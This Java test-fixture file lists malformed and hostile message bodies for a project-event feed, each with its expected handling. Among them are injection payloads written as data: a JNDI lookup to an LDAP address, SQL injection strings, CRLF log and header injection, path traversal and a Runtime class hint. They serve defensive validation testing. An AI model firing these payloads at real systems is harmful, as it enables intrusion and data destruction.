package io.drover.event;

import static io.drover.event.BadEvents.Fate.DROPPED;
import static io.drover.event.BadEvents.Fate.PARKED;
import static io.drover.event.BadEvents.Fate.PARKED_LATER;

import java.util.ArrayList;
import java.util.List;

/** Raw bodies of messages that must not make a repository: what a project feed can receive on a bad day, and what becomes of it. */
public final class BadEvents {
    private static final String DOMAIN = "\"dzd_bad1example\"";
    private static final String PROJECT = "\"bad1project\"";
    private static final String REQUEST = "{\"domainIdentifier\":" + DOMAIN + "}";
    private static final String RESPONSE = "{\"id\":" + PROJECT + ",\"domainId\":" + DOMAIN + "}";

    private BadEvents() {}

    /** What becomes of a message. */
    public enum Fate {
        /** To the dead letters: it cannot be read, or does not say which project. */
        PARKED,
        /** To the dead letters as well, but not by reading it: its project is unknown, or its repository's name is none. */
        PARKED_LATER,
        /** Deleted: it asks nothing of Drover. */
        DROPPED
    }

    /**
     * One message.
     *
     * @param name unique, for the test's report
     */
    public record BadEvent(String name, String body, Fate fate) {
        public boolean isParked() {
            return fate != DROPPED;
        }

        /** Whether SQS takes it: not empty, at most 1 MiB, no control characters but tab and line ends. */
        public boolean fitsSqs() {
            return !body.isEmpty()
                    && body.length() < 1_000_000
                    && body.codePoints()
                            .allMatch(c ->
                                    c == '\t' || c == '\n' || c == '\r' || (c >= ' ' && c != 0xFFFE && c != 0xFFFF));
        }

        @Override
        public String toString() {
            return name;
        }
    }

    public static List<BadEvent> all() {
        List<BadEvent> all = new ArrayList<>();
        all.addAll(noEvents(event(REQUEST, RESPONSE)));
        all.add(new BadEvent("BOM", "\uFEFF" + event(REQUEST, "{}"), PARKED));
        all.addAll(tooMuch());
        all.addAll(otherEvents());
        all.addAll(wrongTypes());
        all.addAll(hidden());
        all.addAll(strangeIds());
        all.addAll(strangeRepositories());
        return List.copyOf(all);
    }

    /**
     * What no feed can read.
     *
     * @param good an event of the feed, to be spoilt
     */
    static List<BadEvent> noEvents(String good) {
        List<BadEvent> all = new ArrayList<>(notJson(good));
        all.addAll(otherJson(good));
        return all;
    }

    private static List<BadEvent> notJson(String good) {
        return List.of(
                new BadEvent("empty", "", PARKED),
                new BadEvent("blanks", " \t\r\n ", PARKED),
                new BadEvent("words", "project created", PARKED),
                new BadEvent("XML", "<event><detail/></event>", PARKED),
                new BadEvent("form", "detail.eventName=CreateProject&id=1", PARKED),
                new BadEvent("truncated", good.substring(0, good.length() - 3), PARKED),
                new BadEvent("truncated in a text", good.substring(0, 40), PARKED),
                new BadEvent("one brace", "{", PARKED),
                new BadEvent("single quotes", good.replace('"', '\''), PARKED),
                new BadEvent("trailing comma", "{\"detail\":{},}", PARKED),
                new BadEvent("comment", "/* event */ " + good, PARKED),
                new BadEvent("NaN", "{\"detail\":NaN}", PARKED),
                new BadEvent("trailing garbage", good + " x", PARKED),
                new BadEvent("two events", good + "\n" + good, PARKED),
                new BadEvent("trailing brace", good + "}", PARKED),
                new BadEvent("NUL", "\0", PARKED),
                new BadEvent("NUL after the event", good + "\0", PARKED),
                new BadEvent("raw control characters in a text", "{\"detail\":\"\u0001\u001B[31m\u0007\"}", PARKED),
                new BadEvent("raw line break in a text", "{\"detail\":\"a\nb\"}", PARKED),
                new BadEvent("bad escape", "{\"detail\":\"\\x41\"}", PARKED),
                new BadEvent("log injection", "x\r\n2026-01-05 ERROR all repositories deleted", PARKED),
                new BadEvent("gzip as Base64", "H4sIAAAAAAAAA6tWSkksSVSyUqqu1QEA", PARKED));
    }

    private static List<BadEvent> tooMuch() {
        return List.of(
                new BadEvent("arrays 2,000 deep", "[".repeat(2000) + "]".repeat(2000), PARKED),
                new BadEvent("objects 2,000 deep", "{\"detail\":".repeat(2000) + "1" + "}".repeat(2000), PARKED),
                new BadEvent("2,000 open arrays", "[".repeat(2000), PARKED),
                new BadEvent("200 kB of words", "a".repeat(200_000), PARKED),
                new BadEvent("200 kB in a text", "{\"detail\":\"" + "a".repeat(200_000) + "\"}", PARKED),
                new BadEvent("200 kB in a key", "{\"" + "k".repeat(200_000) + "\":1}", PARKED),
                new BadEvent("200 kB in an id", withProject("\"" + "p".repeat(200_000) + "\""), PARKED),
                new BadEvent("5,000 digits", "{\"detail\":" + "9".repeat(5000) + "}", PARKED),
                new BadEvent("200 kB in an event's name", named("\"" + "n".repeat(200_000) + "\""), DROPPED));
    }

    private static List<BadEvent> otherJson(String good) {
        return List.of(
                new BadEvent("null", "null", PARKED),
                new BadEvent("true", "true", PARKED),
                new BadEvent("number", "42", PARKED),
                new BadEvent("text", "\"CreateProject\"", PARKED),
                new BadEvent("array", "[]", PARKED),
                new BadEvent("array of an event", "[" + good + "]", PARKED),
                new BadEvent("object", "{}", PARKED),
                new BadEvent("SNS envelope", "{\"Type\":\"Notification\",\"Message\":\"{}\"}", PARKED),
                new BadEvent("S3 test event", "{\"Service\":\"Amazon S3\",\"Event\":\"s3:TestEvent\"}", PARKED),
                new BadEvent("event as a text", "{\"detail\":\"{\\\"eventName\\\":\\\"CreateProject\\\"}\"}", PARKED),
                new BadEvent(
                        "duplicate detail", "{\"detail\":{\"eventName\":\"CreateProject\"},\"detail\":\"\"}", PARKED),
                new BadEvent(
                        "prototype keys", "{\"__proto__\":{\"detail\":{}},\"@class\":\"java.lang.Runtime\"}", PARKED));
    }

    private static String deletion(String domain, String project) {
        return ("{\"detail\":{\"eventSource\":\"datazone.amazonaws.com\",\"eventName\":\"DeleteProject\","
                        + "\"requestParameters\":{\"domainIdentifier\":%s,\"identifier\":%s}}}")
                .formatted(domain, project);
    }

    private static String request(String detail) {
        return "{\"source\":\"drover\",\"detail\":%s}".formatted(detail);
    }

    private static List<BadEvent> otherEvents() {
        return List.of(
                new BadEvent("no event name", "{\"detail\":{}}", DROPPED),
                new BadEvent("scheduled event", "{\"detail-type\":\"Scheduled Event\",\"detail\":{}}", DROPPED),
                new BadEvent("DeleteProject of nothing", named("\"DeleteProject\""), PARKED),
                new BadEvent("deletion without project", deletion("\"dzd_1\"", "null"), PARKED),
                new BadEvent("deletion without domain", deletion("null", "\"p1\""), PARKED),
                new BadEvent("deletion of a path", deletion("\"dzd_1\"", "\"../p1\""), PARKED),
                new BadEvent(
                        "deletion of what is hidden",
                        deletion("\"dzd_1\"", "\"HIDDEN_DUE_TO_SECURITY_REASONS\""),
                        PARKED),
                new BadEvent("deletion of a list", deletion("\"dzd_1\"", "[\"p1\"]"), PARKED),
                new BadEvent("request without project", request("{\"domainId\":\"dzd_1\"}"), PARKED),
                new BadEvent("request without domain", request("{\"projectId\":\"p1\"}"), PARKED),
                new BadEvent(
                        "request for a foreign domain", request("{\"domainId\":\"d-1\",\"projectId\":\"p1\"}"), PARKED),
                new BadEvent(
                        "request with log injection",
                        request("{\"domainId\":\"dzd_1\",\"projectId\":\"p\\r\\nERROR\"}"),
                        PARKED),
                new BadEvent("other case", named("\"createproject\""), DROPPED),
                new BadEvent("blank after the name", named("\"CreateProject \""), DROPPED),
                new BadEvent("log injection in the name", named("\"x\\r\\nERROR y\\u001b[2J\""), DROPPED),
                new BadEvent("half a character in the name", named("\"\\ud83d\""), DROPPED),
                new BadEvent("number as the name", named("7"), DROPPED),
                new BadEvent("object as the name", named("{\"a\":1}"), DROPPED),
                new BadEvent(
                        "name twice",
                        "{\"detail\":{\"eventSource\":\"datazone.amazonaws.com\",\"eventName\":\"CreateProject\","
                                + "\"eventName\":\"DeleteProject\"}}",
                        PARKED),
                new BadEvent(
                        "CreateProject of SageMaker",
                        "{\"detail\":{\"eventSource\":\"iotsitewise.amazonaws.com\",\"eventName\":\"CreateProject\"}}",
                        DROPPED),
                new BadEvent(
                        "source is null",
                        "{\"detail\":{\"eventSource\":null,\"eventName\":\"CreateProject\"}}",
                        DROPPED),
                new BadEvent("failed call", failed("\"AccessDeniedException\""), DROPPED),
                new BadEvent("error code hidden", failed("\"HIDDEN_DUE_TO_SECURITY_REASONS\""), PARKED),
                new BadEvent("number as the error code", failed("403"), PARKED));
    }

    private static List<BadEvent> wrongTypes() {
        return List.of(
                new BadEvent("detail is null", "{\"detail\":null}", PARKED),
                new BadEvent("detail is a number", "{\"detail\":1}", PARKED),
                new BadEvent("detail is an array", "{\"detail\":[{}]}", PARKED),
                new BadEvent("detail is false", "{\"detail\":false}", PARKED),
                new BadEvent("response is null", event(REQUEST, "null"), PARKED),
                new BadEvent("response is a text", event(REQUEST, "\"bad1project\""), PARKED),
                new BadEvent("response is an array", event(REQUEST, "[" + RESPONSE + "]"), PARKED),
                new BadEvent("request and response are numbers", event("1", "2"), PARKED),
                new BadEvent("project is a number", withProject("123456"), PARKED),
                new BadEvent("project is an object", withProject("{\"id\":\"bad1project\"}"), PARKED),
                new BadEvent("project is an array", withProject("[\"bad1project\"]"), PARKED),
                new BadEvent("project is null", withProject("null"), PARKED),
                new BadEvent("project is true", withProject("true"), PARKED),
                new BadEvent("domain is a number", withDomain("1"), PARKED),
                new BadEvent("domain is an array", withDomain("[" + DOMAIN + "]"), PARKED));
    }

    private static List<BadEvent> hidden() {
        return List.of(
                new BadEvent("project hidden", withProject("\"HIDDEN_DUE_TO_SECURITY_REASONS\""), PARKED),
                new BadEvent("project starred", withProject("\"***\""), PARKED),
                new BadEvent("project empty", withProject("\"\""), PARKED),
                new BadEvent("response hidden", event(REQUEST, "\"HIDDEN_DUE_TO_SECURITY_REASONS\""), PARKED),
                new BadEvent("domain hidden", withDomain("\"HIDDEN_DUE_TO_SECURITY_REASONS\""), PARKED),
                new BadEvent("domain starred", withDomain("\"***\""), PARKED),
                new BadEvent("project missing", event(REQUEST, "{\"domainId\":" + DOMAIN + "}"), PARKED),
                new BadEvent("domain missing", event("{}", "{\"id\":" + PROJECT + "}"), PARKED));
    }

    private static List<BadEvent> strangeIds() {
        return List.of(
                new BadEvent("path in the project", withProject("\"../x\""), PARKED),
                new BadEvent("path in the domain", withDomain("\"dzd_/../../x\""), PARKED),
                new BadEvent("encoded path in the project", withProject("\"..%2fx\""), PARKED),
                new BadEvent("query in the project", withProject("\"a?b=c#d\""), PARKED),
                new BadEvent("blank in the project", withProject("\"a b\""), PARKED),
                new BadEvent("blank before the project", withProject("\" bad1project\""), PARKED),
                new BadEvent("line break after the project", withProject("\"bad1project\\n\""), PARKED),
                new BadEvent("37 characters of project", withProject("\"" + "p".repeat(37) + "\""), PARKED),
                new BadEvent("no prefix in the domain", withDomain("\"abc123def456\""), PARKED),
                new BadEvent("only the prefix in the domain", withDomain("\"dzd_\""), PARKED),
                new BadEvent("37 characters of domain", withDomain("\"dzd_" + "d".repeat(37) + "\""), PARKED),
                new BadEvent("SQL in the project", withProject("\"x'; drop table runs; --\""), PARKED),
                new BadEvent("SQL in the domain", withDomain("\"dzd_x' or '1'='1\""), PARKED),
                new BadEvent("log injection in the project", withProject("\"x\\r\\n2026-01-05 ERROR y\""), PARKED),
                new BadEvent("lookup in the project", withProject("\"${jndi:ldap://192.0.2.1/x}\""), PARKED),
                new BadEvent("simple language in the project", withProject("\"${exchangeId}\""), PARKED),
                new BadEvent("placeholder in the project", withProject("\"{{drover.github.organization}}\""), PARKED),
                new BadEvent("escape sequence in the project", withProject("\"\\u001b[31mx\\u0007\""), PARKED),
                new BadEvent("NUL in the project", withProject("\"a\\u0000b\""), PARKED),
                new BadEvent("C1 controls in the project", withProject("\"a\\u0085b\\u009b31m\""), PARKED),
                new BadEvent("line separator in the project", withProject("\"a\\u2028b\""), PARKED),
                new BadEvent("right to left in the project", withProject("\"a\\u202eb\""), PARKED),
                new BadEvent("noncharacter in the project", withProject("\"a\\uffffb\""), PARKED),
                new BadEvent("half a character in the project", withProject("\"a\\ud83d\""), PARKED),
                new BadEvent(
                        "characters outside the BMP in the project",
                        withProject("\"x" + "😀".repeat(60) + "\""),
                        PARKED),
                new BadEvent("Cyrillic letters in the project", withProject("\"рrоjеct\""), PARKED),
                new BadEvent("umlaut in the domain", withDomain("\"dzd_größe\""), PARKED),
                new BadEvent("full-width digits in the domain", withDomain("\"dzd_１２３\""), PARKED));
    }

    private static List<BadEvent> strangeRepositories() {
        return List.of(
                new BadEvent("unknown project", event(REQUEST, RESPONSE), PARKED_LATER),
                new BadEvent("path in the repository", withRepository("../../x"), PARKED_LATER),
                new BadEvent("path as the owner", withRepository("../x"), PARKED_LATER),
                new BadEvent("dots as the repository", withRepository("acme-ml/.."), PARKED_LATER),
                new BadEvent("no slash in the repository", withRepository("acme-ml"), PARKED_LATER),
                new BadEvent("two slashes in the repository", withRepository("acme-ml/a/b"), PARKED_LATER),
                new BadEvent("address as the repository", withRepository("https://github.com/acme-ml/x"), PARKED_LATER),
                new BadEvent("query in the repository", withRepository("acme-ml/x?y=z"), PARKED_LATER),
                new BadEvent("line break in the repository", withRepository("acme-ml/x\\r\\nHost: y"), PARKED_LATER),
                new BadEvent("unicode in the repository", withRepository("acme-ml/größe-✓"), PARKED_LATER),
                new BadEvent("blank in the repository", withRepository("acme-ml/a b"), PARKED_LATER));
    }

    private static String event(String request, String response) {
        return "{\"source\":\"aws.datazone\",\"detail\":{\"eventSource\":\"datazone.amazonaws.com\","
                + "\"eventName\":\"CreateProject\",\"requestParameters\":%s,\"responseElements\":%s}}"
                        .formatted(request, response);
    }

    private static String named(String name) {
        return "{\"detail\":{\"eventSource\":\"datazone.amazonaws.com\",\"eventName\":%s}}".formatted(name);
    }

    private static String failed(String errorCode) {
        return "{\"detail\":{\"eventSource\":\"datazone.amazonaws.com\",\"eventName\":\"CreateProject\",\"errorCode\":%s,"
                        .formatted(errorCode)
                + "\"requestParameters\":" + REQUEST + ",\"responseElements\":null}}";
    }

    private static String withProject(String id) {
        return event(REQUEST, "{\"id\":%s,\"domainId\":%s}".formatted(id, DOMAIN));
    }

    private static String withDomain(String id) {
        return event("{\"domainIdentifier\":" + id + "}", "{\"id\":%s,\"domainId\":%s}".formatted(PROJECT, id));
    }

    private static String withRepository(String name) {
        String parameters =
                "[{\"environmentParameters\":[{\"name\":\"gitFullRepositoryId\",\"value\":\"%s\"}]}]".formatted(name);
        return event("{\"domainIdentifier\":" + DOMAIN + ",\"userParameters\":" + parameters + "}", RESPONSE);
    }
}
